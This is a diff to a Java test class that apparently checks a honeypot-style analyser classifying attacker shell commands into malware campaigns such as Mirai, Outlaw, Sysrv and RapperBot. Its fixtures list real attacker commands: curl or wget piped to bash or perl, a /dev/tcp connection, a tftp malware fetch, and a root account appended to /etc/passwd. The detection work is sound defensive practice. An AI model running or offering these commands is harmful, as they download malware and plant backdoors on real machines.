@@ -42,8 +42,6 @@ class CampaignsTest {
             quoteCharacter = '\u0001',
             value = {
                 "cd ~; chattr -ia .ssh; lockr -ia .ssh   ! outlaw-mdrfckr",
-                "wget http://192.0.2.7/meow              ! meow-dropper",
-                "curl -sS 192.0.2.7/zed | perl >/dev/null 2>&1 & ! perl-zed-dropper",
                 "wget -qO - 192.0.2.7/csx/perlNIK|perl   ! shellbot",
                 "cd /tmp; mkdir .X25-unix                ! outlaw-mdrfckr",
                 "sudo nohup ./kinsing &                  ! kinsing",
@@ -52,8 +50,22 @@ class CampaignsTest {
                 "/bin/busybox FGZNH                      ! mirai",
                 "cd /tmp; /bin/busybox mirai             ! mirai",
                 "/bin/busybox corona                     ! mirai",
+                "/bin/busybox kira; busybox OWARI        ! mirai",
+                "/bin/busybox josh0                      ! mirai",
                 "cd /tmp/.X25-unix/.rsync/c; nohup ./tsm -t 150 & ! outlaw-mdrfckr",
                 "busybox tftp -g -l x -r Mozi.a 192.0.2.3 ! mozi",
+                "cd /tmp; mkdir .X19-unix                ! outlaw-mdrfckr",
+                "nohup /tmp/.X17-unix/.rsync/c/tsm -t 150 & ! outlaw-mdrfckr",
+                "echo 321 > /var/tmp/.var03522123        ! outlaw-mdrfckr",
+                "mkdir /var/tmp/.systemcache436621       ! outlaw-mdrfckr",
+                "/bin/busybox hostname FICORA            ! mirai",
+                "hostname TBOT                           ! mirai",
+                "./x telnet.arm7                         ! mirai",
+                "exec 5<>/dev/tcp/192.0.2.9/60110; echo -n 'GET /linux' >&5 ! p2pinfect",
+                "wget -O /tmp/pty3 http://192.0.2.9/x; /tmp/pty3 ! muhstik",
+                "cp ./m /bin/dhpcd; dhpcd                ! dhpcd",
+                "(curl -fsSL 192.0.2.9/ldr.sh||wget -q -O - 192.0.2.9/ldr.sh)|bash ! sysrv",
+                "curl -s http://192.0.2.9/xms | bash -sh ! 8220",
                 "echo 'suhelper:x:0:0::/:/bin/sh' >> /etc/passwd ! rapperbot",
                 "echo 'suhelper:x:0:0::/:/bin/sh' | tee -a /etc/passwd ! rapperbot",
                 "grep suhelper:x /etc/passwd || sed -i '$ a suhelper:x:0:0::/:/bin/sh' /etc/passwd ! rapperbot",
@@ -83,6 +95,8 @@ class CampaignsTest {
                 "linuxshell                              ! HABIT ! linuxshell-menu",
                 "wget http://192.0.2.7:283/x             ! HABIT ! four-second-dropper",
                 "echo xsec                               ! TOOL ! echo-xsec",
+                "wget http://192.0.2.7/meow              ! HABIT ! meow-dropper",
+                "curl -sS 192.0.2.7/zed | perl >/dev/null 2>&1 & ! HABIT ! perl-zed-dropper",
                 "/gweerwe323f                            ! PROBE ! gweerwe323f",
             })
     void tellsToolsProbesAndHabitsApart(String command, CampaignKind kind, String name) {
@@ -108,6 +122,15 @@ class CampaignsTest {
                 "busybox wget",
                 "busybox nmap",
                 "/bin/busybox python3",
+                "/bin/busybox version",
+                "/bin/busybox wegt",
+                "/bin/busybox hello",
+                "/bin/busybox test1",
+                "/bin/busybox foo; /bin/busybox applets",
+                "/bin/busybox unmae -a; /bin/busybox unmae",
+                "/bin/busybox lsls; /bin/busybox pyhton",
+                "/bin/busybox 123; /bin/busybox xxxx",
+                "busybox LIST; busybox VERSION",
                 "grep suhelper:x /etc/passwd",
                 "sudo grep -n suhelper:x /etc/passwd; id suhelper; userdel suhelper",
                 "getent passwd | egrep 'suhelper:x'",
@@ -130,6 +153,58 @@ class CampaignsTest {
             })
     void namesNothingThatIsOnlyReadOrRemoved(String command) {
         assertThat(all(of(command))).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "exec 3<>/dev/tcp/203.0.113.9/60110",
+                "cp notes.txt /tmp/pty2",
+                "/tmp/pty2",
+                "dhpcd",
+                "sudo dhpcd eth0",
+                "wget http://192.0.2.9/ldr.sh",
+                "wget http://192.0.2.9/xms",
+                "cp notes.txt /tmp/network01",
+                "useradd -m hilde",
+                "echo 'export A=1' > /etc/profile.d/linux.sh",
+                "echo 1 > /dev/shm/.x/a",
+                "wget http://192.0.2.9/newinit.sh",
+                "./connect telnet.example.com",
+                "ls /tmp/.X11-unix; mkdir -p /tmp/.X11-unix",
+                "echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhLxYb1zz6pXK1g helloworld >> a",
+                "hostname FICORA-test",
+            })
+    void namesNoCampaignByOneWeakWord(String command) {
+        assertThat(of(command).campaigns()).isEmpty();
+    }
+
+    @Test
+    void countsAWeakMarkBesideAnother() throws IOException {
+        Path file = folder.resolve("campaigns.tsv");
+        Files.writeString(
+                file,
+                HEADING
+                        + "mine\tfamily\twritten\t^/tmp/a$\t/tmp/a\talone\t-\t-\tme\n"
+                        + "mine\tfamily\trun\t/tmp/a$\t/tmp/a\talone\t-\t-\tme\n"
+                        + "mine\tfamily\tline\tgo on$\tgo on\t-\t-\t-\tme\n");
+        Analysis own =
+                Analysis.builder().campaigns(CampaignSignatures.load(file)).build();
+
+        assertThat(marks(own, "cp x /tmp/a", "cp y /tmp/a")).isEmpty();
+        assertThat(marks(own, "/tmp/a")).isEmpty();
+        assertThat(marks(own, "go on")).containsExactly("line go on$");
+        assertThat(marks(own, "cp x /tmp/a", "/tmp/a")).containsExactly("written ^/tmp/a$", "run /tmp/a$");
+        assertThat(marks(own, "/tmp/a", "go on")).containsExactly("run /tmp/a$", "line go on$");
+    }
+
+    private static List<String> marks(Analysis analysis, String... commands) {
+        return Objects.requireNonNull(
+                        analysis.assess(Sessions.ran(commands).build()).playbook())
+                .campaigns()
+                .stream()
+                .flatMap(match -> match.marks().stream())
+                .toList();
     }
 
     @Test
